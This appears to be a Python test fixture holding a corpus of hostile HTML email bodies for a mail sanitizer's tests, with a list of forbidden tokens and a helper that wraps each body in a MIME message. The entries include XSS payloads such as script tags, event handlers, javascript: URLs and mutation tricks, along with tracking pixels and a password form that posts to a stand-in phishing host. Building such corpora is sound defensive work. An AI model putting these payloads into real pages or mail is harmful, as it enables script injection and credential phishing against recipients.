"""A corpus of malicious HTML mail: each entry tries to run script, reach the
network, break out of the frame or take the page down.  Used by the sanitizer tests
here and by the browser tests, which open each one in Chromium."""

from __future__ import annotations

# (name, HTML body).  Remote hosts use the .invalid TLD (RFC 2606): never resolvable.
CORPUS: list[tuple[str, str]] = [
    ("script-tag", "<p>hi</p><script>alert('script')</script>"),
    ("script-mixed-case", "<ScRiPt>alert(1)</sCrIpT><p>x</p>"),
    ("event-handlers", '<img src="x" onerror="alert(1)"><body onload="alert(2)">'
     '<div onmouseover="alert(3)">hover</div><svg onload="alert(4)"></svg>'),
    ("javascript-url", '<a href="javascript:alert(1)">click</a><a href="JaVaScRiPt:alert(2)">2</a>'
     '<a href="&#106;avascript:alert(3)">3</a>'),
    ("data-url", '<a href="data:text/html,<script>alert(1)</script>">d</a>'
     '<img src="data:image/svg+xml,<svg onload=alert(1)>">'
     '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>'),
    ("svg-script", "<svg><script>alert(1)</script><foreignObject><body onload=alert(2)>"
     "</foreignObject></svg>"),
    ("css-tricks", '<style>body{background:url(https://css.tracker.invalid/bg)}'
     '@import url(https://css.tracker.invalid/x.css);</style>'
     '<div style="background-image:url(https://css.tracker.invalid/div);position:fixed;'
     'top:0;left:0;width:100%;height:100%;color:red">overlay</div>'
     '<p style="behavior:url(x.htc);-moz-binding:url(x.xml#x)">old tricks</p>'),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=https://refresh.invalid/">'
     '<meta http-equiv="Content-Security-Policy" content="default-src *">text'),
    ("forms", '<form action="https://phish.invalid/steal" method="post">'
     '<input name="password" type="password"><button>Log in</button></form>'),
    ("tracking-pixel", '<p>Newsletter</p><img src="https://pixel.tracker.invalid/open.gif" '
     'width="1" height="1"><img src="http://pixel.tracker.invalid/2.gif">'),
    ("frames-objects", '<iframe src="https://frame.invalid/"></iframe>'
     '<object data="https://object.invalid/x.swf"></object><embed src="https://embed.invalid/">'
     '<frameset><frame src="https://frame.invalid/2"></frameset>'),
    ("base-and-link", '<base href="https://base.invalid/"><link rel="stylesheet" '
     'href="https://link.invalid/x.css"><a href="relative">rel</a>'),
    ("srcset-and-media", '<img srcset="https://srcset.invalid/a.png 1x">'
     '<video src="https://video.invalid/v.mp4" autoplay></video>'
     '<audio src="https://audio.invalid/a.mp3" autoplay></audio>'
     '<picture><source srcset="https://source.invalid/s.png"></picture>'),
    ("mutation-xss", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'
     '<math><mtext><table><mglyph><style><img src=x onerror=alert(2)>'),
    ("comment-tricks", '<!--<img src="--><img src=x onerror=alert(1)//">-->ok'),
    # ~500 KB and 25,000 lines (SMTP lines stay under 1000 octets, RFC 5321 §4.5.3.1.6).
    ("giant", "<table>\r\n" + "<tr><td>cell</td></tr>\r\n" * 20000 + "</table>\r\n"
     + "<b>nested\r\n" * 5000),
]

FORBIDDEN = ("<script", "onerror", "onload", "onmouseover", "javascript:", "<form", "<iframe",
             "<object", "<embed", "<meta", "<base", "<link", "<style", "@import", "srcset",
             "<video", "<audio", "position:fixed", "behavior", "binding")


def message(name: str, html: str, to: str = "alice@example.test") -> bytes:
    return (
        f"From: Hostile <hostile@attacker.invalid>\r\nTo: {to}\r\nSubject: hostile {name}\r\n"
        "MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
    ).encode() + html.encode() + b"\r\n"
